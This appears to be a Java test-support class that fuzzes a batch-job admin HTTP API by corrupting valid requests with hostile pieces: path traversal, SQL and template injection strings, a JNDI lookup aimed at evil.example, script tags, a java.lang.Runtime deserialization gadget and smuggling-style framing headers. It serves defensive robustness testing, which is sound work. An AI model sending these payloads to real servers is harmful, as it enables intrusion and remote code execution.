package io.batchdesk.it.desk.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.UnaryOperator;

/**
 * Makes up hostile requests: good ones of all routes, spoilt in one to four places. The same seed
 * gives the same requests.
 */
public final class HostileGenerator {

  private static final String API = "/api/admin";
  private static final String CREATE =
      "{\"type\":\"contact-list\",\"context\":{\"country\":\"FJ\",\"rowsPerSecond\":1000},\"dry_run\":true}";

  private static final List<RawRequest> GOOD =
      List.of(
          RawRequest.get(API + "/batch-jobs?limit=2&offset=0&order=-created_at&fields=id,status"),
          RawRequest.get(API + "/batch-jobs?type[]=contact-list&created_at[gt]=2026-01-01"),
          RawRequest.get(API + "/batch-jobs?canceled_at=&id[0]={completed}&status=completed"),
          RawRequest.get(API + "/batch-jobs/{completed}").header("If-None-Match: \"abc\""),
          RawRequest.get(API + "/batch-jobs/{completed}/events"),
          RawRequest.get(API + "/batch-jobs/{completed}/outputs"),
          RawRequest.get(API + "/batch-jobs/{completed}/outputs/1/download")
              .header("Range: bytes=0-9"),
          RawRequest.of("HEAD", API + "/batch-jobs/{completed}/outputs/1/download"),
          RawRequest.post(API + "/batch-jobs", CREATE),
          RawRequest.post(API + "/batch-jobs", CREATE).header("Idempotency-Key: one"),
          RawRequest.post(API + "/batch-jobs/{canceled}/confirm", "{\"reason\":\"why\"}"),
          RawRequest.post(API + "/batch-jobs/{canceled}/resume", "{\"answer\":\"yes\"}"),
          RawRequest.post(API + "/batch-jobs/{canceled}/cancel", "{}"),
          RawRequest.of("DELETE", API + "/batch-jobs/batch_01ARZ3NDEKTSV4RRFFQ69G5FAV"),
          RawRequest.get(API + "/tokens"),
          RawRequest.post(API + "/tokens", "{\"title\":\"x\",\"expires_in_days\":1}"),
          RawRequest.get(API + "/types/contact-list"),
          RawRequest.get(API + "/applications"),
          RawRequest.get(API + "/users/stranger"),
          RawRequest.post(API + "/users", "{\"name\":\"x\",\"password\":\"short\",\"roles\":[]}"),
          RawRequest.get(API + "/audit?limit=3&user=admin&at[gte]=2026-01-01"),
          RawRequest.get(API + "/health"),
          RawRequest.get("/start/contact-list?country=AT&return_url=/x"),
          RawRequest.get("/jobs/{completed}"));

  private static final List<String> METHODS =
      List.of(
          "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "X", "get", "GE-T");

  /** Pieces of addresses and queries. */
  private static final List<String> PIECES =
      List.of(
          "",
          "/",
          "//",
          "..",
          "../",
          "%2e%2e%2f",
          "..%2f",
          ";a=b",
          ";",
          "%",
          "%4",
          "%zz",
          "%00",
          "%ff",
          "%c0%af",
          "%0d%0a",
          "%25",
          "%E2%82%AC",
          "+",
          "&",
          "&&",
          "=",
          "[",
          "]",
          "[]",
          "[0]",
          "[gt]",
          "?",
          "#",
          "null",
          "-1",
          "0",
          "1e9",
          "2147483648",
          "99999999999999999999",
          "NaN",
          "abc",
          "{",
          "}",
          "'",
          "\"",
          "<script>",
          "%3Cscript%3E",
          "#{1+1}",
          "${1+1}",
          "' or 1=1 --",
          "java.lang.Runtime",
          "\u00C3\u00A9",
          "\u0000",
          "\u00FF",
          "\\",
          "|",
          "*",
          "~",
          "WEB-INF/web.xml",
          "limit",
          "created_at",
          "2026-13-01");

  private static final List<String> HEADERS =
      List.of(
          "Accept",
          "Accept-Charset",
          "Accept-Encoding",
          "Accept-Language",
          "Authorization",
          "Connection",
          "Content-Encoding",
          "Content-Type",
          "Cookie",
          "Expect",
          "Forwarded",
          "Host",
          "Idempotency-Key",
          "If-Match",
          "If-Modified-Since",
          "If-None-Match",
          "If-Range",
          "If-Unmodified-Since",
          "Origin",
          "Pragma",
          "Range",
          "Referer",
          "Sec-Fetch-Site",
          "TE",
          "Upgrade",
          "User-Agent",
          "X-Forwarded-For",
          "X-Forwarded-Host",
          "X-Forwarded-Proto",
          "X-HTTP-Method-Override",
          "x-medusa-access-token");

  private static final List<String> VALUES =
      List.of(
          "",
          " ",
          "*",
          "*/*",
          "///",
          "a/b;q=x",
          "application/xml",
          "application/json;charset=utf-16",
          "text/plain",
          "multipart/form-data",
          "application/x-www-form-urlencoded",
          "gzip",
          "close",
          "keep-alive",
          "Upgrade",
          "h2c",
          "websocket",
          "100-continue",
          "chunked",
          "null",
          "evil.example",
          "http://evil.example",
          "a b",
          "\"",
          "\"abc",
          "W/\"\"",
          "bytes=0-",
          "bytes=-1",
          "bytes=9-1",
          "bytes=0-0,1-1",
          "yesterday",
          "-1",
          "Basic",
          "Basic !!!",
          "Bearer",
          "Bearer x",
          "tz=../..",
          "batchdesk=x; batchdesk=y",
          "a=b;;=;$Version=1",
          "127.0.0.1",
          "<script>",
          "${jndi:ldap://evil.example/a}",
          "\u00E9",
          "\u0001",
          "same-origin",
          "en-*-;q=z");

  /** Values of JSON. */
  private static final List<String> JSON =
      List.of(
          "null",
          "true",
          "0",
          "-1",
          "1.5",
          "1e999999999",
          "-0",
          "2147483648",
          "9223372036854775808",
          "NaN",
          "01",
          "\"\"",
          "\"x\"",
          "\"\\u0000\"",
          "\"\\ud800\"",
          "\"\\x\"",
          "\"../x\"",
          "\"<script>\"",
          "\"#{1+1}\"",
          "\"' or 1=1 --\"",
          "[]",
          "{}",
          "[[[[]]]]",
          "{\"a\":{\"a\":{}}}",
          "{\"@class\":\"java.lang.Runtime\"}",
          "",
          "'x'",
          "x",
          "/*x*/1");

  private final Random random;
  private final List<UnaryOperator<RawRequest>> ways =
      List.of(
          this::path,
          this::path,
          this::query,
          this::query,
          this::header,
          this::header,
          this::header,
          this::json,
          this::json,
          this::bytes,
          this::method,
          this::encoding,
          this::framing);

  /** Begins with a seed. */
  public HostileGenerator(long seed) {
    random = new Random(seed);
  }

  /** Makes up the next one. */
  public RawRequest next() {
    RawRequest request = pick(GOOD);
    for (int i = random.nextInt(4); i >= 0; i--) {
      request = pick(ways).apply(request);
    }
    return speaksHttp(request) ? request : request.withBrokenFraming();
  }

  /** What is not even a line of HTTP may be hung up on. */
  private static boolean speaksHttp(RawRequest request) {
    return request.target().chars().allMatch(c -> c > ' ' && c <= '~');
  }

  private RawRequest path(RawRequest request) {
    String target = request.target();
    int end = target.indexOf('?') < 0 ? target.length() : target.indexOf('?');
    int at = 1 + random.nextInt(end);
    int upTo = random.nextBoolean() ? at : Math.min(end, at + random.nextInt(8));
    return request.target(target.substring(0, at) + piece() + target.substring(upTo));
  }

  private RawRequest query(RawRequest request) {
    String target = request.target();
    String separator = target.contains("?") ? "&" : "?";
    return switch (random.nextInt(3)) {
      case 0 -> request.target(target + separator + piece() + "=" + piece());
      case 1 -> request.target(target + separator + "limit" + piece() + "=" + piece());
      default -> request.target(target + piece());
    };
  }

  /** Mostly one, now and then very many. */
  private String piece() {
    return pick(PIECES).repeat(random.nextInt(20) == 0 ? 300 : 1);
  }

  private RawRequest header(RawRequest request) {
    String name = pick(HEADERS);
    String value = pick(VALUES).repeat(random.nextInt(20) == 0 ? 100 : 1);
    return (random.nextBoolean() ? request.without(name) : request).header(name + ": " + value);
  }

  /** Puts another value in the place of a value. */
  private RawRequest json(RawRequest request) {
    String body = new String(request.body(), UTF_8);
    List<Integer> colons =
        body.chars().boxed().toList().isEmpty()
            ? List.of()
            : java.util.stream.IntStream.range(0, body.length())
                .filter(i -> body.charAt(i) == ':' || body.charAt(i) == ',')
                .boxed()
                .toList();
    if (colons.isEmpty()) {
      return request.body(pick(JSON).getBytes(UTF_8));
    }
    int at = pick(colons) + 1;
    int end = at;
    while (end < body.length() && ",}".indexOf(body.charAt(end)) < 0) {
      end++;
    }
    String spoilt = body.substring(0, at) + pick(JSON) + body.substring(end);
    return request.body(spoilt.getBytes(UTF_8));
  }

  /** Cuts, doubles or turns over bytes of the body. */
  private RawRequest bytes(RawRequest request) {
    byte[] body = request.body().clone();
    if (body.length == 0) {
      byte[] noise = new byte[random.nextInt(200)];
      random.nextBytes(noise);
      return request.body(noise);
    }
    int at = random.nextInt(body.length);
    return switch (random.nextInt(4)) {
      case 0 -> request.body(Arrays.copyOf(body, at));
      case 1 -> request.body((new String(body, ISO_8859_1).repeat(2)).getBytes(ISO_8859_1));
      case 2 ->
          request.body(("[".repeat(2_000) + new String(body, ISO_8859_1)).getBytes(ISO_8859_1));
      default -> {
        body[at] = (byte) random.nextInt(256);
        yield request.body(body);
      }
    };
  }

  private RawRequest method(RawRequest request) {
    return request.method(pick(METHODS));
  }

  private RawRequest encoding(RawRequest request) {
    String text = new String(request.body(), UTF_8);
    return random.nextBoolean()
        ? request.body(text.getBytes(UTF_16))
        : request.body(("\uFEFF" + text).getBytes(UTF_8));
  }

  private RawRequest framing(RawRequest request) {
    RawRequest broken = request.withBrokenFraming();
    return switch (random.nextInt(6)) {
      case 0 -> broken.header("Content-Length: " + pick(PIECES));
      case 1 -> broken.header("Content-Length: " + random.nextInt(200));
      case 2 -> broken.header("Transfer-Encoding: chunked");
      case 3 -> broken.version(pick(List.of("HTTP/1.0", "HTTP/0.9", "HTTP/9.9", "HTTP/x", "")));
      case 4 -> broken.header(pick(PIECES) + ": x");
      default -> broken.header(pick(PIECES));
    };
  }

  private <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
